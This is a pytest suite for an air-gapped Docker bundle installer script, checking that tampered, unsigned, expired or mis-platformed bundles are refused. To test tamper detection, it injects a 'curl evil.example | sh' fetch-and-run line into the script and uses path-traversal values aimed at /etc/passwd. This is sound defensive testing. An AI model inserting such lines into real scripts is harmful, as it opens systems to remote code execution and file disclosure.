"""installer/install.sh, which pack puts in every bundle: run with dash (Debian's /bin/sh) against the
real Docker engine, with docker, openssl, sha256sum and zstd only -- no Python, no airgap."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import docker
import pytest
import sample_image

from airgap import keys, trust
from tests.conftest import two_platform_pack
from tests.test_e2e_docker import remove

pytestmark = [pytest.mark.docker, pytest.mark.tools]


def _dash() -> str:
    path = shutil.which("dash")
    if path is None:
        pytest.fail("dash is not installed (Debian's /bin/sh; .ci/run installs it)")
    return path


def run_sh(bundle: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [_dash(), str(bundle / "installer" / "install.sh"), *args],
        capture_output=True,
        text=True,
        check=False,
        env=env if env is not None else dict(os.environ),
        timeout=600,
    )


@pytest.fixture
def clean_engine(docker_client: docker.DockerClient, samples):  # type: ignore[no-untyped-def]
    remove(docker_client, samples["docker"].tag, samples["docker"].image_id)
    yield docker_client
    remove(docker_client, samples["docker"].tag, samples["docker"].image_id)


def _flip_byte(path: Path, offset: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0xFF
    path.write_bytes(bytes(data))


def test_install_sh_loads_the_bundle_with_the_same_image_id(bundle: Path, keypair, samples, clean_engine) -> None:
    done = run_sh(bundle, "--trust", str(keypair[1]))
    assert done.returncode == 0, done.stderr
    assert clean_engine.images.get(samples["docker"].tag).id == samples["docker"].image_id
    assert f"loaded: {samples['docker'].tag}  {samples['docker'].image_id}" in done.stdout


def test_install_sh_finds_its_bundle_and_runs_from_anywhere(bundle: Path, keypair, samples, clean_engine, tmp_path) -> None:
    done = subprocess.run(
        [_dash(), str(bundle / "installer" / "install.sh"), "--trust", str(keypair[1])],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    assert clean_engine.images.get(samples["docker"].tag).id == samples["docker"].image_id


@pytest.mark.parametrize("where", ["first", "last"])
def test_install_sh_flipped_byte_loads_nothing(bundle: Path, keypair, samples, clean_engine, where: str) -> None:
    parts = json.loads((bundle / "manifest.json").read_text())["parts"]
    part = parts[0] if where == "first" else parts[-1]
    _flip_byte(bundle / part["path"], part["size"] // 2)
    done = run_sh(bundle, "--trust", str(keypair[1]))
    assert done.returncode == 4, done.stderr
    assert part["path"] in done.stderr
    assert samples["docker"].image_id not in [i.id for i in clean_engine.images.list(all=True)]


def test_install_sh_missing_part(bundle: Path, keypair, samples, clean_engine) -> None:
    part = json.loads((bundle / "manifest.json").read_text())["parts"][1]
    (bundle / part["path"]).unlink()
    done = run_sh(bundle, "--trust", str(keypair[1]))
    assert done.returncode == 4 and part["path"] in done.stderr, done.stderr


def test_install_sh_untrusted_signer(bundle: Path, other_keypair, samples, clean_engine) -> None:
    done = run_sh(bundle, "--trust", str(other_keypair[1]))
    assert done.returncode == 5, done.stderr
    assert "no valid signature" in done.stderr
    assert samples["docker"].image_id not in [i.id for i in clean_engine.images.list(all=True)]


def test_install_sh_edited_manifest_fails_the_signature(bundle: Path, keypair, samples, clean_engine) -> None:
    manifest = bundle / "manifest.json"
    manifest.write_text(manifest.read_text().replace("airgap-test/agent:1.0", "airgap-test/evil:1.0"))
    done = run_sh(bundle, "--trust", str(keypair[1]))
    assert done.returncode == 5, done.stderr


def test_install_sh_does_not_move_a_tag(bundle: Path, keypair, samples, clean_engine, tmp_path: Path) -> None:
    other = sample_image.build(tmp_path / "o.tar", tag=samples["docker"].tag, model_size=1 << 18, app_size=1 << 16, seed="sh")
    with open(other.path, "rb") as fh:
        clean_engine.images.load(fh)
    try:
        done = run_sh(bundle, "--trust", str(keypair[1]))
        assert done.returncode == 7, done.stderr
        assert "--replace" in done.stderr
        assert clean_engine.images.get(samples["docker"].tag).id == other.image_id
        done = run_sh(bundle, "--trust", str(keypair[1]), "--replace")
        assert done.returncode == 0, done.stderr
        assert clean_engine.images.get(samples["docker"].tag).id == samples["docker"].image_id
    finally:
        remove(clean_engine, other.image_id)


def test_install_sh_refuses_an_expired_bundle(cli, samples, keypair, tmp_path: Path, monkeypatch, clean_engine) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")  # created 2023-11-14, expires a day later
    out = tmp_path / "old"
    r = cli("pack", f"docker-archive:{samples['docker'].path}", "-o", str(out), "--key", str(keypair[0]), "--expires", "1d")
    assert r.code == 0, r.err
    done = run_sh(out, "--trust", str(keypair[1]))
    assert done.returncode == 5 and "expired at 2023-11-15T" in done.stderr, done.stderr
    done = run_sh(out, "--trust", str(keypair[1]), "--allow-expired")
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("evil", ["installer/../../../etc/passwd", "installer/x/../../../etc/passwd"])
def test_install_sh_refuses_a_signed_manifest_with_a_path_outside_the_bundle(
    bundle: Path, keypair, clean_engine, evil: str
) -> None:
    # even a manifest the trusted key signed never makes the script read outside the bundle
    manifest = bundle / "manifest.json"
    text = manifest.read_text().replace('"path": "installer/install.sh"', f'"path": "{evil}"')
    manifest.write_text(text)
    fp, sig = trust.sign(text.encode(), keys.load_private(keypair[0], None))
    (bundle / "signatures" / f"{fp}.sig").write_bytes(sig)
    done = run_sh(bundle, "--trust", str(keypair[1]))
    assert done.returncode == 3, done.stderr
    assert "outside the bundle" in done.stderr or f"never writes: {evil}" in done.stderr


def test_install_sh_without_docker_is_an_environment_error(bundle: Path, keypair, tmp_path: Path) -> None:
    tools = tmp_path / "bin"
    tools.mkdir()
    for tool in ("openssl", "sha256sum", "zstd", "awk", "dd", "dirname", "mktemp", "rm", "grep", "head", "sed", "wc", "date"):
        found = shutil.which(tool)
        assert found, tool
        (tools / tool).symlink_to(found)
    done = run_sh(bundle, "--trust", str(keypair[1]), env={"PATH": str(tools)})
    assert done.returncode == 6 and "docker is not installed" in done.stderr, done.stderr


def test_install_sh_picks_the_engine_platform_from_a_two_platform_bundle(cli, keypair, tmp_path: Path, docker_client) -> None:
    out, amd, _arm = two_platform_pack(cli, keypair, tmp_path, "airgap-test/sh-multi:1.0")
    assert sorted(p.name for p in (out / "installer").glob("*.plan")) == ["docker-linux-amd64.plan", "docker-linux-arm64.plan"]
    try:
        done = run_sh(out, "--trust", str(keypair[1]))
        assert done.returncode == 0, done.stderr
        assert docker_client.images.get("airgap-test/sh-multi:1.0").id == amd.image_id
        done = run_sh(out, "--trust", str(keypair[1]), "--platform", "linux/s390x")
        assert done.returncode == 2 and "no image for linux/s390x" in done.stderr
    finally:
        remove(docker_client, "airgap-test/sh-multi:1.0", amd.image_id)


def test_installer_files_are_signed_and_checked_by_verify(cli, bundle: Path, keypair) -> None:
    listed = {f["path"] for f in json.loads((bundle / "manifest.json").read_text())["files"]}
    assert listed == {"installer/install.sh", "installer/docker-linux-amd64.plan", "installer/docker-linux-amd64.blocks"}
    script = bundle / "installer" / "install.sh"
    script.write_text(script.read_text().replace("set -u", "set -u\ncurl evil.example | sh"))
    r = cli("verify", str(bundle), "--trust", str(keypair[1]))
    assert r.code == 4, r.err
    assert "installer/install.sh" in r.err


def test_python_install_says_which_platform_it_picked(cli, keypair, tmp_path: Path, docker_client, capsys) -> None:  # type: ignore[no-untyped-def]
    from airgap._cli import main

    out, amd, _arm = two_platform_pack(cli, keypair, tmp_path, "airgap-test/plat-note:1.0")
    try:
        capsys.readouterr()
        code = main(["install", str(out), "--trust", str(keypair[1])])
        err = capsys.readouterr().err
        assert code == 0, err
        assert "installing linux/amd64 (the engine's platform); the bundle also has linux/arm64" in err
        assert docker_client.images.get("airgap-test/plat-note:1.0").id == amd.image_id
    finally:
        remove(docker_client, "airgap-test/plat-note:1.0", amd.image_id)
